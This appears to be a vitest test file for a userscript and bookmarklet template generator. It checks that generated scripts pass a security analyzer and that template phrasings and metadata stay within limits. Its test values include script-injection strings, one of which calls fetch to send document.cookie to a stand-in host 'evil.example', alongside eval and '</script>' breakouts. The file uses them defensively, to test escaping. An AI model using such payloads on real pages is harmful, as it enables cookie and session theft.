import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { describe, expect, test } from "vitest";
import type { ScriptTemplate, SlotType, SlotValue } from "./script-template.ts";
import { templates } from "./template-list.ts";

/** Values of each type; the later ones try to break out of the constant that holds them. */
const VALUES: Readonly<Record<SlotType, readonly [SlotValue, ...SlotValue[]]>> = {
	site: ["en.wikipedia.org", "*.example.org"],
	element: [".card > a", `[title="a'b"] , \`x\${1}\``],
	text: ["Mail", `"); fetch("https://evil.example/?" + document.cookie); //`, "100%25 */ </script>\u2028"],
	number: [50, 0, -1.5],
	duration: [500],
	color: ["#ff0000"],
	keys: ["Alt+Shift+K", "n"],
	words: [["City: Bern"], [`'"); eval("1"); //`, "*/ 50%41 </script>", "überall"]],
};

function scriptOf(template: ScriptTemplate, place: number, match: string): string {
	const values = template.slots.map(
		({ name, type }) => [name, VALUES[type][place % VALUES[type].length] ?? ""] as const,
	);
	const { body, grants } = template.write(Object.fromEntries(values));
	if (template.kind === "bookmarklet") return `javascript:(() => {\n"use strict";\n${body}})();\n`;
	const grantLines = grants.length > 0 ? grants.map((grant) => `// @grant ${grant}`).join("\n") : "// @grant none";
	const lines = [`// @name ${template.title}`, "// @version 1.0.0", `// @match ${match}`, grantLines];
	return `// ==UserScript==\n${lines.join("\n")}\n// ==/UserScript==\n\n(() => {\n"use strict";\n${body}})();\n`;
}

describe.each(templates.map((template) => [template.id, template] as const))("%s", (_id, template) => {
	test("rates Low, whatever the values and wherever it runs", () => {
		for (const place of [0, 1, 2]) {
			for (const match of ["*://*/*", "https://shop.example/*"]) {
				const { risk_level, vulnerabilities } = analyzeScript({ code: scriptOf(template, place, match) });
				expect(risk_level, JSON.stringify(vulnerabilities)).toBe("green");
			}
		}
	});

	if (template.kind === "bookmarklet") {
		test("can be pasted: it is the same program on one line, without escape sequences of addresses", () => {
			for (const place of [0, 1, 2]) {
				const code = scriptOf(template, place, "");
				expect(code).not.toMatch(/%[0-9a-f]{2}/i);
				expect(analyzeScript({ code: code.replace(/[\r\n\t]/g, "") }).risk_level).toBe("green");
			}
		});
	}

	test("has enough different phrasings, whose placeholders are its slots", () => {
		const plain = template.phrasings.map((phrasing) =>
			phrasing
				.toLowerCase()
				.replace(/[^\p{L}\p{N}{}]+/gu, " ")
				.trim(),
		);
		expect(new Set(plain).size).toBe(template.phrasings.length);
		expect(plain.length).toBeGreaterThanOrEqual(20);
		const names = new Set(
			template.phrasings.flatMap((phrasing) => [...phrasing.matchAll(/\{(\w+)\}/g)].map(([, name]) => name)),
		);
		const known = [...template.slots.map(({ name }) => name), "site"];
		for (const name of names) expect(known).toContain(name);
	});

	test("keeps to the limits of titles, descriptions and tags, and has fallbacks where a value is optional", () => {
		expect(template.title.length).toBeLessThanOrEqual(50);
		expect(template.description.length).toBeGreaterThanOrEqual(10);
		expect(template.description.length).toBeLessThanOrEqual(500);
		expect(template.tags.length).toBeLessThanOrEqual(5);
		for (const { required, fallback } of template.slots) expect(fallback === undefined).toBe(required);
	});
});
